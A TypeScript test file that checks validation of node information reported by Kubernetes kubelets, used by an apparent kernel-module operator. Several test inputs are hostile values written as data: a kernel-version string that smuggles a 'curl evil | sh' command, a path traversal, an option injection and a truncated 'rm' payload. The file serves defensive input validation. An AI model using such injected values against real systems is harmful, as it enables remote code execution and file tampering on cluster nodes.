import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { NodeObject } from './kubernetesObjects.ts'
import { distributionOf } from './buildOrigin.ts'
import { nodeFacts } from './objectFacts.ts'
import { cleanText } from './text/cleanText.ts'
import { isKernelRelease, validNodeInfo } from './nodeForm.ts'
import { readyLabel } from './names.ts'
import {
  guardedModule,
  testCluster,
  testConfig,
  testKernel,
  testNode,
  testRecord,
  testRef,
} from './testCluster.ts'
import { kernelsOf } from './viewKernel.ts'
import { viewModule } from './viewModule.ts'

const info = {
  kernelVersion: '6.8.0-60-generic',
  bootID: '0c5b2c3e-6a5c-4b7e-9f57-0f8f0f2a1c11',
  architecture: 'amd64',
  osImage: 'Ubuntu 24.04.2 LTS',
}

describe('what kubelets report', () => {
  test.each([
    ['5.14.0-427.13.1.el9_4.x86_64+rt', 'amd64'],
    ['6.1.0-18-cloud-arm64', 'arm64'],
    ['5.15.0-1.20~22.04.1-generic', 's390x'],
    ['6.6.87.2-microsoft-standard-WSL2', 'ppc64le'],
    ['4.18.0-305.el8.x86_64+debug', 'mips64le'],
  ])('%s on %s counts', (kernelVersion, architecture) => {
    const found = validNodeInfo({ ...info, kernelVersion, architecture })
    expect(found).toMatchObject({ kernel: kernelVersion, architecture, bootId: info.bootID })
    expect(found.invalid).toBeUndefined()
  })
  test('what it has not reported yet is no fault', () => {
    expect(validNodeInfo()).toEqual({ kernel: '', bootId: '', architecture: '', osImage: '' })
  })
  test.each<[string, object, string]>([
    ['a command', { kernelVersion: "6.1'; curl evil | sh; '" }, 'kernelVersion'],
    ['a long release', { kernelVersion: '6'.repeat(65) }, 'kernelVersion'],
    ['a path', { kernelVersion: '../../etc' }, 'kernelVersion'],
    ['the folder above', { kernelVersion: '..' }, 'kernelVersion'],
    ['an option', { kernelVersion: '--all' }, 'kernelVersion'],
    ['a line', { kernelVersion: '6.1\n' }, 'kernelVersion'],
    ['a number', { kernelVersion: 6 }, 'kernelVersion'],
    ['a boot id with a space', { bootID: 'a b' }, 'bootID'],
    ['an architecture in capitals', { architecture: 'AMD64' }, 'architecture'],
  ])('%s makes nothing of the report count', (_name, change, invalid) => {
    const found = validNodeInfo({ ...info, ...change })
    expect(found).toEqual({ kernel: '', bootId: '', architecture: '', osImage: info.osImage, invalid })
  })
  test('whatever comes, what is used is of its form, and the system is short and clean', () => {
    const text = fc.string({ unit: 'binary', maxLength: 400 })
    fc.assert(
      fc.property(text, text, text, text, (kernelVersion, bootID, architecture, osImage) => {
        const nodeInfo = { kernelVersion, bootID, architecture, osImage }
        const node = { metadata: { name: 'n', uid: 'u', resourceVersion: '1' }, status: { nodeInfo } }
        const facts = nodeFacts(node as NodeObject)
        expect(facts.kernel === '' || isKernelRelease(facts.kernel)).toBe(true)
        expect(facts.osImage.length).toBeLessThanOrEqual(256)
        expect(facts.osImage).toBe(cleanText(facts.osImage))
      }),
    )
  })
})

test('a system of many spaces costs as many steps as it has characters', () => {
  // An expression that begins with anything tries each of them as a beginning.
  const spaces = `${' '.repeat(500_000)}x`
  expect(distributionOf(`a${spaces}`)).toBe(`a${spaces}`)
})

describe('one kubelet that reports what no kubelet reports', () => {
  const bad = testNode({ name: 'bad', uid: 'node-2', kernel: '', invalid: 'kernelVersion' })
  const loaded = {
    kernel: testKernel,
    phase: 'Loaded',
    image: `reg.example/fpga:${testKernel}`,
    digest: `sha256:${'1'.repeat(64)}`,
    nodes: { targets: 1, loaded: 1, failed: 0, waiting: 0 },
  } as const
  const module = guardedModule({}, { status: { kernels: [loaded] } })
  const config = testConfig({ containerImage: `${loaded.image}@${loaded.digest}` })
  const records = [testRecord(config, { config, bootId: 'b1' })]
  const ready = testNode({ labels: { [readyLabel(testRef)]: '' } })
  const cluster = testCluster({ modules: [module], records, nodes: [ready, bad] })
  test('stops no other node, and is reported', () => {
    const { summary } = viewModule(cluster, testRef, '2026-01-01T00:00:00Z')
    const found = Object.fromEntries(summary?.conditions.map((c) => [c.type, c]) ?? [])
    expect(found['Ready']).toMatchObject({ status: 'True', message: expect.stringContaining('of 1 nodes') })
    expect(found['NodeInvalid']).toMatchObject({
      status: 'True',
      reason: 'NodeInfoInvalid',
      message: expect.stringContaining('Node bad: status.nodeInfo.kernelVersion'),
    })
    expect(kernelsOf(cluster, testRef)).toEqual([testKernel])
  })
  test('a release in status that is none concerns nobody', () => {
    const kernels = [loaded, { kernel: `x'; rm`, phase: 'Loaded' } as const]
    const modules = [guardedModule({}, { status: { kernels } })]
    expect(kernelsOf(testCluster({ modules }), testRef)).toEqual([testKernel])
  })
})
